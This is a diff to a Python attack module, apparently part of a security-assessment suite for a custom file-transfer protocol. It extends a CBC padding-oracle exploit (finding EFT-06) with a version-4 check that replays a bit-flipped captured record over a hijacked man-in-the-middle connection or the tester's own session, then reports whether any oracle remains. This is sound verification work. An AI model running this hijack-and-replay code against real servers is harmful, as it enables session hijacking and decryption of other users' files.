@@ -18,21 +18,38 @@ with. Two ways to get one:
   The attack first checks that a known-valid ciphertext gets 1603 at all.
 
 Success means the recovered plaintext's cksum equals the server's own 1603 CRC for it.
+
+``--protocol 4``: records are AES-GCM, there is no padding, and every failure closes the
+connection without an answer. The version-4 attempt sends the oracle's query, the
+captured data record with one ciphertext bit flipped, on the victim's left connection
+(``--listen``), or, from a recording, on a connection of our own both under the victim's
+id and under ours. Each is met with a close and no byte: one query per connection, and
+every query answered alike.
 """
 
 from __future__ import annotations
 
 import argparse
+import os
 import string
 from pathlib import Path
 
 from eft_protocol.cksum import cksum
 from eft_protocol.codes import RequestCode, ResponseCode
 
-from .common import AttackError, Link, Out, ServerLink, add_listen_argument, preview
-from .framing import name_request, one_packet_attempt
+from .common import (
+    AttackError,
+    ConnectionClosed,
+    Link,
+    Out,
+    ServerLink,
+    add_listen_argument,
+    preview,
+)
+from .framing import Frame, name_request, one_packet_attempt
 from .proxy import Hijack, MitmConnection, MitmProxy
 from .recording import Attempt, SessionView, load_sessions
+from .v4 import PREFIX, V4View, add_protocol_argument, flip, own_identity, v4_view, v4_views
 
 FINDING = "EFT-06"
 SUMMARY = "CBC padding oracle (1603 vs 1607) decrypts a captured file"
@@ -58,6 +75,7 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--batch", type=int, default=64, help="queries per round trip (64)")
     parser.add_argument("--max-blocks", type=int, default=64, help="refuse longer files")
     parser.add_argument("--out", help="write the recovered plaintext here")
+    add_protocol_argument(parser)
 
 
 class Oracle:
@@ -188,7 +206,73 @@ async def attack(
     )
 
 
+def last_data_record(view: V4View) -> Frame:
+    for upload in view.uploads:
+        if upload.chunks:
+            return upload.chunks[-1].frame
+    raise AttackError("no data record was captured")
+
+
+async def query_v4(link: Link, raw: bytes) -> int | None:
+    """Send one query; the number of frames the server answered before it closed (None:
+    it kept the connection open)."""
+    await link.send(raw)
+    frames = 0
+    try:
+        while True:
+            await link.receive(2.0)
+            frames += 1
+    except ConnectionClosed:
+        return frames
+    except AttackError:
+        return None
+
+
+def verdict_v4(out: Out, answers: dict[str, int | None]) -> bool:
+    if any(a != 0 for a in answers.values()):
+        return out.result(True, "the server answered a query", answers=answers)
+    return out.result(
+        False,
+        "no oracle: every query was met with a close and no answer (one query per "
+        "connection, and valid or not, all look alike)",
+        answers=answers,
+    )
+
+
+async def run_v4(args: argparse.Namespace, out: Out) -> bool:
+    if args.recording:
+        view = next((v for v in v4_views(load_sessions(Path(args.recording))) if v.uploads), None)
+        if view is None or not view.client_ids:
+            raise AttackError("the recording holds no version-4 upload")
+        record = last_data_record(view)
+        query = flip(record.raw, 23 + PREFIX)
+        answers: dict[str, int | None] = {}
+        for label in ("victim_id", "own_id"):
+            own = await own_identity(args.target, f"oracle-{os.urandom(3).hex()}")
+            try:
+                header = query[:23]  # the victim's id, as recorded
+                if label == "own_id":  # the captured ciphertext under a header of ours
+                    sealed = own.seal(RequestCode.SEND_FILE, bytes(len(record.payload) - 16))
+                    header = sealed[:23]
+                answers[label] = await query_v4(own.link, header + query[23:])
+            finally:
+                await own.close()
+        out.step("queries on connections of our own", answers=answers)
+        return verdict_v4(out, answers)
+
+    async def after(conn: MitmConnection, view: SessionView) -> bool:
+        v4 = v4_view(view)
+        record = last_data_record(v4)
+        out.step("the victim left; its server connection is ours", client_id=record.client_id)
+        answers = {"hijacked": await query_v4(conn, flip(record.raw, 23 + PREFIX))}
+        return verdict_v4(out, answers)
+
+    return await MitmProxy(args.target, Hijack(after), out).run(args.listen, args.timeout)
+
+
 async def run(args: argparse.Namespace, out: Out) -> bool:
+    if args.protocol == 4:
+        return await run_v4(args, out)
     if args.recording:
         sessions = load_sessions(Path(args.recording))
         view = next((v for v in sessions if v.client_id and v.attempts), None)
